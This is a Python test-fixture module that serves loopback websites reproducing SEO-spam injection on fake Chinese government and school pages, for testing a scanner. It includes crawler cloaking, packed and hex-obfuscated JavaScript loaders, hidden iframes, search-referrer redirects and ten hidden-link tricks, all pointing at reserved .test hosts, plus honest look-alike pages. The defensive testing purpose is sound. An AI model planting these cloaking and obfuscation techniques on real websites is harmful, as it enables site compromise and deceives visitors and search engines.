"""Loopback test websites (测试网站) that reproduce each injection technique, and honest look-alikes.

Hostile endpoints (a zip bomb, endless pages, redirect loops) are test fixtures and live in
``tests/support/hostile.py``; they join these sites through ``TestSites(extra=...)``.

Every site is its own ``ThreadingHTTPServer`` on 127.0.0.1 with an ephemeral port, so each is a
separate host for the scanner. Responses depend on the persona the way injection kits decide:
a User-Agent matching the spider pattern, or a Referer from a search engine. Operator domains
named in the pages (``*.example-bet.test`` style, reserved TLDs) are never served and never
fetched. Used by the tests, the demo and the benchmark::

    with running_test_sites() as sites:
        sites.url("title_spider")          # -> "http://127.0.0.1:40123/"
        sites.expected["title_spider"]     # -> {"inject.title_spider"}
"""

from __future__ import annotations

import contextlib
import re
import threading
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

# The kits' own test for "is this a search-engine spider" (what injected sites check), written here
# rather than taken from the scanner's personas: the test sites must not change when the scanner does.
_SPIDER = re.compile(r"baiduspider|sogou|360spider|googlebot|bingbot|yisouspider|bytespider", re.I)
_SEARCH = re.compile(r"baidu\.com|sogou\.com|so\.com|sm\.cn|google\.", re.I)

# Operator infrastructure named by the injected pages (reserved .test TLD: never resolvable).
LOADER_HOST = "cdn.tj-xpj8866.test"
LOADER_HOST_2 = "js.amjs-tongji.test"
GAMBLING_HOST = "www.xpj8866.test"
REDIRECT_HOST = "m.amjs-bet365.test"
IFRAME_HOST = "vip.hg0088-tyc.test"
LINK_HOSTS = [f"www.{x}.test" for x in ("tyc0077", "bet365-am", "xpj5858", "hg0088", "js1155", "pj8899",
                                         "am-dubo", "bc1688")]
GAMBLING_TITLE = "澳门新葡京娱乐城-线上百家乐-真人视讯-首存送38%彩金"
GAMBLING_KEYWORDS = "澳门新葡京,百家乐,真人视讯,彩金,老虎机,网上赌场"


@dataclass
class Request:
    path: str
    query: dict[str, list[str]]
    user_agent: str
    referer: str

    @property
    def is_spider(self) -> bool:
        return bool(_SPIDER.search(self.user_agent))

    @property
    def from_search(self) -> bool:
        return bool(_SEARCH.search(self.referer))

    def agent_is(self, token: str) -> bool:
        return token.lower() in self.user_agent.lower()


@dataclass
class Response:
    status: int = 200
    body: bytes | Iterable[bytes] = b""
    headers: dict[str, str] = field(default_factory=dict)
    content_type: str = "text/html; charset=utf-8"


Handler = Callable[[Request], Response]


# ------------------------------------------------------------------------------ page pieces
def html_page(title: str, body: str, head: str = "", keywords: str = "", description: str = "") -> Response:
    meta = ""
    if keywords:
        meta += f'<meta name="keywords" content="{keywords}">\n'
    if description:
        meta += f'<meta name="description" content="{description}">\n'
    doc = (f'<!DOCTYPE html>\n<html lang="zh-CN"><head><meta charset="utf-8">\n<title>{title}</title>\n'
           f"{meta}{head}</head>\n<body>\n{body}\n</body></html>\n")
    return Response(body=doc.encode("utf-8"))


def _school_body(name: str) -> str:
    return (f"<div id='header'><h1>{name}</h1><ul class='nav'><li><a href='/'>首页</a></li>"
            "<li><a href='/news/1.html'>学校新闻</a></li><li><a href='/about.html'>学校概况</a></li></ul></div>"
            "<div id='main'><h2>通知公告</h2><ul><li><a href='/news/1.html'>关于做好2026年秋季学期开学工作的通知</a></li>"
            "<li><a href='/news/2.html'>我校举行第三十届田径运动会</a></li>"
            "<li><a href='/news/3.html'>2026年教师招聘公告</a></li></ul>"
            "<p>学校始建于1952年，是省级示范性普通高中，现有教学班48个，在校学生2300余人。"
            "学校坚持立德树人，全面推进素质教育，教学质量稳步提升。</p></div>"
            "<div id='footer'>版权所有 ©2026 " + name + " 备案号：某ICP备12345678号</div>")


def _gov_body(name: str) -> str:
    return (f"<div class='top'><h1>{name}</h1></div><div class='content'><h2>政务公开</h2>"
            "<ul><li><a href='/zwgk/1.html'>2026年政府工作报告</a></li><li><a href='/zwgk/2.html'>关于进一步优化营商环境的实施意见</a></li>"
            "<li><a href='/zwgk/3.html'>全县秋粮收购工作有序推进</a></li></ul>"
            "<p>本县位于省境东南部，总面积1820平方公里，辖12个乡镇，户籍人口46万。"
            "县委县政府坚持以人民为中心的发展思想，扎实推进乡村振兴。</p></div>"
            "<div class='foot'>主办单位：" + name + "办公室 政府网站标识码：1234000001</div>")


def _gambling_body() -> str:
    return ("<div class='logo'>澳门新葡京 <small>Casino</small></div>"
            "<ul class='games'><li>真人视讯 百家乐</li><li>电子游艺 老虎机</li><li>体育投注 皇冠足球</li>"
            "<li>彩票 北京赛车 时时彩</li><li>棋牌 斗地主 炸金花 牛牛</li></ul>"
            "<div class='promo'>新会员首存送38%彩金，每日返水1.5%，无限返水，7x24小时在线客服</div>"
            "<form action='/deposit' method='post'>充值金额<input name='amount'> 存款方式 <select name='pay'>"
            "<option>银行卡转账</option><option>USDT-TRC20</option><option>支付宝</option></select>"
            "<button>立即存款</button></form>"
            "<div class='pay'>收款银行：中国农业银行 户名：张伟 卡号：6228480402564890018 "
            "USDT(TRC20)：TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE</div>"
            "<div class='cs'>在线客服 QQ：2853110012 Telegram：<a href='https://t.me/xpj8866kf'>@xpj8866kf</a> "
            f"<a href='http://{GAMBLING_HOST}/app/xpj.apk'>下载APP</a></div>"
            "<table class='odds'><tr><th>赛事</th><th>主胜</th><th>平</th><th>客胜</th></tr>"
            "<tr><td>英超 曼联 vs 利物浦</td><td>2.15</td><td>3.40</td><td>3.05</td></tr></table>")


def _links(hosts: list[str], words: list[str]) -> str:
    return "".join(f"<a href='http://{h}/'>{w}</a> " for h, w in zip(hosts, words, strict=False))


_LINK_WORDS = ["澳门新葡京", "百家乐", "皇冠体育", "太阳城娱乐", "真人视讯", "网上赌场", "老虎机", "时时彩"]


# --------------------------------------------------------------------------------- packers
_A62 = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


def _base62(n: int) -> str:
    out = ""
    while True:
        out = _A62[n % 62] + out
        n //= 62
        if n == 0:
            return out


def pack_js(source: str) -> str:
    """Dean Edwards' packer output format (``eval(function(p,a,c,k,e,d)...)``), base 62."""
    source = source.replace("\n", " ")
    words = list(dict.fromkeys(re.findall(r"\b\w+\b", source)))
    index = {w: _base62(i) for i, w in enumerate(words)}
    payload = re.sub(r"\b\w+\b", lambda m: index[m.group(0)], source)
    payload = payload.replace("\\", "\\\\").replace("'", "\\'")
    return ("eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
            "String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}"
            "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace("
            "new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
            f"('{payload}',62,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))")


def hex_escape(text: str) -> str:
    """Every character as ``\\xNN`` / ``\\uNNNN`` (what kits do to hide strings)."""
    return "".join(f"\\x{ord(c):02x}" if ord(c) < 256 else f"\\u{ord(c):04x}" for c in text)


def entity_encode(text: str, hexa: bool = False) -> str:
    return "".join((f"&#x{ord(c):x};" if hexa else f"&#{ord(c)};") for c in text)


def array_table_js(strings: list[str], body: str, name: str = "_0x5a1c") -> str:
    """A string-array obfuscator: strings hex-escaped in a table, used as ``name[0x1]``."""
    table = ",".join("'" + hex_escape(s) + "'" for s in strings)
    for i, s in enumerate(strings):
        body = body.replace("{" + s + "}", f"{name}[0x{i:x}]")
    return f"var {name}=[{table}];{body}"


# ------------------------------------------------------------------------------ the sites
def site_title_spider(req: Request) -> Response:
    if req.path == "/":
        if req.is_spider:
            return html_page(GAMBLING_TITLE, _gov_body("某某县人民政府"), keywords=GAMBLING_KEYWORDS,
                             description="澳门新葡京官方网站，提供百家乐、真人视讯、体育投注，首存即送彩金")
        return html_page("某某县人民政府门户网站", _gov_body("某某县人民政府"), keywords="政务公开,政府信息",
                         description="某某县人民政府门户网站")
    return html_page("某某县人民政府 - 政务公开", _gov_body("某某县人民政府"))


def site_title_restore(req: Request) -> Response:
    # The gambling title is in the HTML (entity-encoded) for everyone; a hex-escaped script puts
    # the school's title back unless the visitor is a spider, so the owner never sees it.
    script = ("<script>if(!/" + "baiduspider|sogou|360spider|googlebot" + "/i.test(navigator.userAgent)){"
              "document.title='" + hex_escape("某某市第一中学") + "';}</script>")
    return html_page(entity_encode(GAMBLING_TITLE), _school_body("某某市第一中学"), head=script,
                     keywords=entity_encode(GAMBLING_KEYWORDS, hexa=True))


def site_loader_packed(req: Request) -> Response:
    inner = pack_js(f"var s=document.createElement('script');s.src='http://{LOADER_HOST}/js/tj.js?v=3';"
                    "document.getElementsByTagName('head')[0].appendChild(s);")
    outer = pack_js(inner)  # nested: the packed loader packed again
    return html_page("某某职业技术学院", _school_body("某某职业技术学院"), head=f"<script>{outer}</script>")


def site_loader_array(req: Request) -> Response:
    js = array_table_js(
        ["write", f"<iframe src=\"http://{IFRAME_HOST}/index.html\" width=\"0\" height=\"0\" frameborder=\"0\">",
         "</iframe>"],
        "document[{write}]({" f"<iframe src=\"http://{IFRAME_HOST}/index.html\" width=\"0\" height=\"0\" frameborder=\"0\">"
        "}+{</iframe>});",
    )
    return html_page("某某区卫生健康局", _gov_body("某某区卫生健康局"), head=f"<script>{js}</script>")


def site_redirect_js(req: Request) -> Response:
    js = ("var r=document.referrer;if(/baidu|sogou|so\\.com|sm\\.cn|google/i.test(r)){"
          f"window.location.href='http://{REDIRECT_HOST}/?from=seo';}}")
    return html_page("某某镇人民政府", _gov_body("某某镇人民政府"), head="<script>" + pack_js(js) + "</script>")


def site_redirect_meta(req: Request) -> Response:
    head = ""
    if req.from_search:  # decided on the server: only search visitors get the refresh
        head = f"<meta http-equiv='refresh' content='0;url=http://{REDIRECT_HOST}/m/'>"
    return html_page("某某市图书馆", _school_body("某某市图书馆"), head=head)


def site_redirect_iframe(req: Request) -> Response:
    js = (f"if(document.referrer.match(/{hex_escape('baidu')}|sogou|so.com/)){{document.write('"
          + hex_escape(f'<iframe src="http://{IFRAME_HOST}/" style="position:fixed;top:0;left:0;width:100%;'
                       'height:100%;z-index:99999;border:0"></iframe>')
          + "');}")
    return html_page("某某市气象局", _gov_body("某某市气象局"), head=f"<script>{js}</script>")


def site_redirect_http(req: Request) -> Response:
    if req.from_search and req.path == "/":
        return Response(status=302, headers={"Location": f"http://{REDIRECT_HOST}/?s=1"})
    return html_page("某某县融媒体中心", _gov_body("某某县融媒体中心"))


_HIDDEN_BLOCKS = {
    "display_none": "<div style='display:none'>{links}</div>",
    "visibility_hidden": "<div style=\"visibility: hidden\">{links}</div>",
    "offscreen": "<div style='position:absolute;left:-9999px;top:-9999px'>{links}</div>",
    "text_indent": "<p style='text-indent:-99999px;overflow:hidden'>{links}</p>",
    "zero_size": "<div class='zs'>{links}</div>",
    "font_size_0": "<span style='font-size:0px'>{links}</span>",
    "same_color": "<div style='color:#ffffff;background-color:#fff'>{links}</div>",
    "overflow_1px": "<div id='ov1' style='height:1px;overflow:hidden'>{links}</div>",
    "marquee": "<marquee height='1' width='1' scrollamount='3000' scrolldelay='20000'>{links}</marquee>",
    "js_hide": "<div id='yqlj2'>{links}</div><script>document.getElementById('yqlj2').style.display='none';</script>",
}
HIDDEN_TECHNIQUES = tuple(_HIDDEN_BLOCKS)


def site_hidden_links(req: Request) -> Response:
    blocks = []
    for i, tmpl in enumerate(_HIDDEN_BLOCKS.values()):
        hosts = LINK_HOSTS[i % 3:] + LINK_HOSTS[: i % 3]
        blocks.append(tmpl.format(links=_links(hosts[:4], _LINK_WORDS[i % 4: i % 4 + 4])))
    style = "<style>.zs{width:0;height:0;overflow:hidden}</style>"
    return html_page("某某大学继续教育学院", _school_body("某某大学继续教育学院") + "".join(blocks), head=style)


def site_cloak_ua(req: Request) -> Response:
    if req.agent_is("googlebot"):
        return Response(status=404, body=b"<html><head><title>404 Not Found</title></head><body>Not Found</body></html>")
    if req.agent_is("baiduspider") or req.agent_is("sogou") or req.agent_is("360spider"):
        return html_page(GAMBLING_TITLE, _gambling_body())
    return html_page("某某市交通运输局", _gov_body("某某市交通运输局"))


def site_parasite(req: Request) -> Response:
    if req.path == "/robots.txt":
        return Response(body=b"User-agent: *\nDisallow: /admin/\nSitemap: /sitemap.xml\n", content_type="text/plain")
    if req.path == "/sitemap.xml":
        urls = "".join(f"<url><loc>{p}</loc></url>" for p in ("/", "/about.html", "/tags/baijiale.html",
                                                                  "/search.php?kw=%E7%99%BE%E5%AE%B6%E4%B9%90"))
        return Response(body=f"<?xml version='1.0'?><urlset>{urls}</urlset>".encode(), content_type="application/xml")
    if req.path.startswith("/tags/"):
        kw = req.path.rsplit("/", 1)[-1].removesuffix(".html")
        return html_page(f"{kw}-澳门百家乐官网-在线百家乐", _gambling_body())
    if req.path == "/search.php" and "kw" in req.query:
        kw = req.query["kw"][0]
        return html_page(f"{kw}_澳门新葡京_真人百家乐", _gambling_body())
    return html_page("某某科技有限公司", _school_body("某某科技有限公司"))


def site_fake_error(req: Request) -> Response:
    if req.is_spider or req.from_search:
        return html_page(GAMBLING_TITLE, _gambling_body())
    body = ("<div id='main-frame-error' class='interstitial-wrapper'><div id='main-content'>"
            "<div class='icon icon-generic'></div><div id='main-message'><h1><span>无法访问此网站</span></h1>"
            "<p>找不到 <strong>www.example-county.gov.cn</strong> 的服务器 IP 地址。</p>"
            "<div class='error-code'>DNS_PROBE_FINISHED_NXDOMAIN</div></div></div>"
            "<div class='error-code' jscontent='errorCode'>ERR_NAME_NOT_RESOLVED</div></div>")
    return html_page("www.example-county.gov.cn", body)


def site_gambling(req: Request) -> Response:
    if req.path == "/robots.txt":
        return Response(body=b"User-agent: *\nDisallow: /private/\n", content_type="text/plain")
    return html_page(GAMBLING_TITLE, _gambling_body(), keywords=GAMBLING_KEYWORDS)


# ----------------------------------------------------------------------- honest look-alikes
def site_news_crackdown(req: Request) -> Response:
    body = ("<a class='skip' href='#main' style='position:absolute;left:-9999px'>跳到主要内容</a>"
            "<div class='nav'><ul><li><a href='/'>首页</a></li><li class='dropdown'>友情链接"
            "<ul style='display:none'><li><a href='http://www.mps.gov.cn/'>公安部</a></li>"
            "<li><a href='http://www.court.gov.cn/'>最高人民法院</a></li><li><a href='http://www.spp.gov.cn/'>最高人民检察院</a></li>"
            "<li><a href='http://www.gov.cn/'>中国政府网</a></li></ul></li></ul></div>"
            "<div id='main'><h1>我省公安机关破获一起特大跨境网络赌博案</h1><p class='src'>来源：省公安厅 发布时间：2026-11-20</p>"
            "<p>近日，省公安厅指挥某市公安局成功破获一起特大跨境网络赌博案，抓获犯罪嫌疑人56名，冻结涉案资金1.2亿元。"
            "经查，该团伙在境外架设“澳门新葡京”“太阳城”等赌博网站，以百家乐、真人视讯、体育投注等形式招揽境内人员参赌，"
            "并通过银行卡、USDT等渠道为赌博平台结算赌资。</p><p>警方提示：网络赌博是违法犯罪行为，所谓“首存送彩金”“高额返水”"
            "都是诱饵，参与赌博必将血本无归。如发现赌博违法犯罪线索，请拨打110举报。</p>"
            "<p>依据《中华人民共和国刑法》第三百零三条，开设赌场罪最高可判处十年有期徒刑。公安机关将持续开展打击跨境赌博专项行动。</p></div>")
    return html_page("我省公安机关破获一起特大跨境网络赌博案_警务动态_某省公安厅", body)


def site_lottery(req: Request) -> Response:
    rows = "".join(f"<tr><td>2026{130 + i:03d}</td><td>2026-11-{2 + 2 * i:02d}</td>"
                   f"<td>03 08 12 19 25 31</td><td>09</td><td>{4 + i}注</td><td>6,012,345元</td></tr>" for i in range(8))
    body = ("<div class='head'><h1>中国福利彩票</h1><p>扶老·助残·救孤·济困</p></div>"
            "<h2>双色球开奖公告</h2><table class='kj'><tr><th>期号</th><th>开奖日期</th><th>红球</th><th>蓝球</th>"
            f"<th>一等奖注数</th><th>单注奖金</th></tr>{rows}</table>"
            "<p>中国福利彩票是国家为筹集社会福利事业发展资金发行的彩票。本期销量3.81亿元，奖池金额21.6亿元。"
            "福彩公益金用于老年人福利、残疾人福利、儿童福利和社会公益事业。请理性购彩，未满18周岁不得购买彩票。</p>"
            "<p>快乐8、3D、七乐彩开奖公告请见相应栏目。</p>")
    return html_page("双色球开奖结果_中国福利彩票", body)


def site_marquee_notice(req: Request) -> Response:
    body = ("<marquee behavior='scroll' direction='left' scrollamount='4' style='width:100%;height:28px;color:#c00'>"
            "<a href='/news/1.html'>热烈祝贺我校在全省中小学生运动会上获得团体总分第一名！</a>　"
            "<a href='/news/2.html'>关于2026年寒假放假安排的通知</a></marquee>" + _school_body("某某市实验小学"))
    return html_page("某某市实验小学", body)


def site_entity_text(req: Request) -> Response:
    # Some CMSs store every non-ASCII character as a numeric reference; nothing is hidden.
    name = "某某市人民医院"
    body = (f"<h1>{entity_encode(name)}</h1><p>{entity_encode('门诊时间：周一至周日 8:00-17:30，急诊24小时开放。')}</p>"
            f"<p>{entity_encode('预约挂号请拨打0551-12345678或关注医院微信公众号。')}</p>"
            f"<p>{entity_encode('医院是一所集医疗、教学、科研、预防于一体的三级甲等综合医院。', hexa=True)}</p>")
    return html_page(entity_encode(name + "官方网站"), body, keywords=entity_encode("人民医院,预约挂号"))


def site_light_bot(req: Request) -> Response:
    title = "某某市档案馆"
    if req.is_spider:  # a lighter page for crawlers: same title and topic, no scripts or widgets
        return html_page(title, "<h1>某某市档案馆</h1><p>档案查询、开放目录、馆藏介绍。</p>")
    body = ("<script src='/static/jquery.min.js'></script><script>var _hmt=_hmt||[];</script>"
            + _gov_body(title) + "<div class='widget'>天气：晴 18℃</div>")
    return html_page(title, body)


def site_stat_cdn(req: Request) -> Response:
    """A "statistics" script host (e.g. a compromised CDN) serving a packed loader."""
    js = pack_js(f"document.write('<script src=\"http://{LOADER_HOST_2}/t.js\"></scr'+'ipt>');")
    return Response(body=js.encode(), content_type="application/javascript")


def make_site_external_loader(sites: TestSites) -> Handler:
    """A page that includes the loader from another host (the ``stat_cdn`` site)."""
    def site_external_loader(req: Request) -> Response:
        src = sites.url("stat_cdn", "/js/stat.js")
        return html_page("某某县教育局", _gov_body("某某县教育局"), head=f"<script src='{src}'></script>")

    return site_external_loader


def site_hidden_css_file(req: Request) -> Response:
    """Hidden links whose hiding rule lives in an external stylesheet (seen only when rendered)."""
    if req.path == "/css/site.css":
        return Response(body=b".yqlj{position:absolute;left:-8000px;top:0}", content_type="text/css")
    links = _links(LINK_HOSTS[:4], _LINK_WORDS[:4])
    return html_page("某某区人民法院", _gov_body("某某区人民法院") + f"<div class='yqlj'>{links}</div>",
                     head="<link rel='stylesheet' href='/css/site.css'>")


# Ground truth: which rule ids each site must (and, for look-alikes, must not) produce.
EXPECTED: dict[str, set[str]] = {
    "title_spider": {"inject.title_spider"},
    "title_restore": {"inject.title_spider"},
    "loader_packed": {"inject.loader_script"},
    "loader_array": {"inject.loader_script"},
    "redirect_js": {"inject.referrer_redirect"},
    "redirect_meta": {"inject.referrer_redirect"},
    "redirect_iframe": {"inject.referrer_redirect"},
    "redirect_http": {"inject.referrer_redirect"},
    "hidden_links": {"inject.hidden_links"},
    "cloak_ua": {"cloak.ua"},
    "parasite": {"inject.parasite"},
    "fake_error": {"cloak.fake_error"},
    "gambling": {"gambling.site"},
    "news_crackdown": set(),
    "lottery": set(),
    "marquee_notice": set(),
    "entity_text": set(),
    "light_bot": set(),
}
HONEST = ("news_crackdown", "lottery", "marquee_notice", "entity_text", "light_bot")
SITES: dict[str, Handler] = {
    "title_spider": site_title_spider,
    "title_restore": site_title_restore,
    "loader_packed": site_loader_packed,
    "loader_array": site_loader_array,
    "redirect_js": site_redirect_js,
    "redirect_meta": site_redirect_meta,
    "redirect_iframe": site_redirect_iframe,
    "redirect_http": site_redirect_http,
    "hidden_links": site_hidden_links,
    "cloak_ua": site_cloak_ua,
    "parasite": site_parasite,
    "fake_error": site_fake_error,
    "gambling": site_gambling,
    "news_crackdown": site_news_crackdown,
    "lottery": site_lottery,
    "marquee_notice": site_marquee_notice,
    "entity_text": site_entity_text,
    "light_bot": site_light_bot,
}


# ------------------------------------------------------------------------------------ server
def _make_handler(site: Handler, hits: dict[str, int], name: str) -> type[BaseHTTPRequestHandler]:
    class _H(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        wbufsize = 1 << 16  # headers and body leave in one write (no delayed-ACK stalls on keep-alive)
        disable_nagle_algorithm = True
        server_version = "nginx"
        sys_version = ""

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - stdlib signature
            return

        def do_GET(self) -> None:  # noqa: N802 - stdlib name
            parts = urlsplit(self.path)
            hits[name] = hits.get(name, 0) + 1  # tests check which hosts were contacted
            req = Request(parts.path or "/", parse_qs(parts.query), self.headers.get("User-Agent", ""),
                          self.headers.get("Referer", ""))
            if req.path == "/robots.txt" and site not in (site_parasite, site_gambling):
                resp = Response(body=b"User-agent: *\nDisallow:\n", content_type="text/plain")
            else:
                resp = site(req)
            self.send_response(resp.status)
            self.send_header("Content-Type", resp.content_type)
            for k, v in resp.headers.items():
                self.send_header(k, v)
            try:
                if isinstance(resp.body, bytes):
                    self.send_header("Content-Length", str(len(resp.body)))
                    self.end_headers()
                    self.wfile.write(resp.body)
                else:  # streamed: no length, close when done
                    self.send_header("Connection", "close")
                    self.close_connection = True
                    self.end_headers()
                    for chunk in resp.body:
                        self.wfile.write(chunk)
                        self.wfile.flush()
            except (BrokenPipeError, ConnectionResetError, OSError):
                self.close_connection = True

    return _H


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128

    def handle_error(self, request: object, client_address: object) -> None:
        return  # clients that hang up early (size limits, timeouts) are expected here


class TestSites:
    """The running servers: ``url(name)``, ``expected``, ``honest``; stop with :meth:`close`."""

    __test__ = False  # not a pytest class

    def __init__(self, names: Iterable[str] | None = None, *, external: bool = False,
                 extra: Mapping[str, Callable[[threading.Event], Handler]] | None = None) -> None:
        """Serve ``names`` (default every site); ``extra`` adds sites made from the stop event."""
        self.stop = threading.Event()
        handlers = {n: SITES[n] for n in (SITES if names is None else names)}
        self.hits: dict[str, int] = {}
        if external:  # resources in other files/hosts: a loader on another host, hiding CSS in a file
            handlers["stat_cdn"] = site_stat_cdn
            handlers["external_loader"] = make_site_external_loader(self)
            handlers["hidden_css_file"] = site_hidden_css_file
        for name, make in (extra or {}).items():
            handlers[name] = make(self.stop)
        self.servers: dict[str, _Server] = {}
        self.threads: list[threading.Thread] = []
        for name, handler in handlers.items():
            server = _Server(("127.0.0.1", 0), _make_handler(handler, self.hits, name))
            self.servers[name] = server
            th = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True,
                                  name=f"testsite-{name}")
            th.start()
            self.threads.append(th)
        self.expected = {n: EXPECTED.get(n, set()) for n in self.servers}
        self.honest = tuple(n for n in HONEST if n in self.servers)

    def url(self, name: str, path: str = "/") -> str:
        return f"http://{self.host(name)}{path}"

    def host(self, name: str) -> str:
        host, port = self.servers[name].server_address[:2]
        return f"{host!s}:{port}"

    def site_of(self, host: str) -> str | None:
        for name in self.servers:
            if self.host(name) == host:
                return name
        return None

    def close(self) -> None:
        self.stop.set()
        for server in self.servers.values():
            server.shutdown()
            server.server_close()


@contextlib.contextmanager
def running_test_sites(names: Iterable[str] | None = None, *, external: bool = False,
                       extra: Mapping[str, Callable[[threading.Event], Handler]] | None = None) -> Iterator[TestSites]:
    sites = TestSites(names, external=external, extra=extra)
    try:
        yield sites
    finally:
        sites.close()


if __name__ == "__main__":  # manual exploration: python -m chainbreaker.synth.websites
    with running_test_sites() as s:
        for n in s.servers:
            print(f"{n:16s} {s.url(n)}", flush=True)
        with contextlib.suppress(KeyboardInterrupt):
            threading.Event().wait()
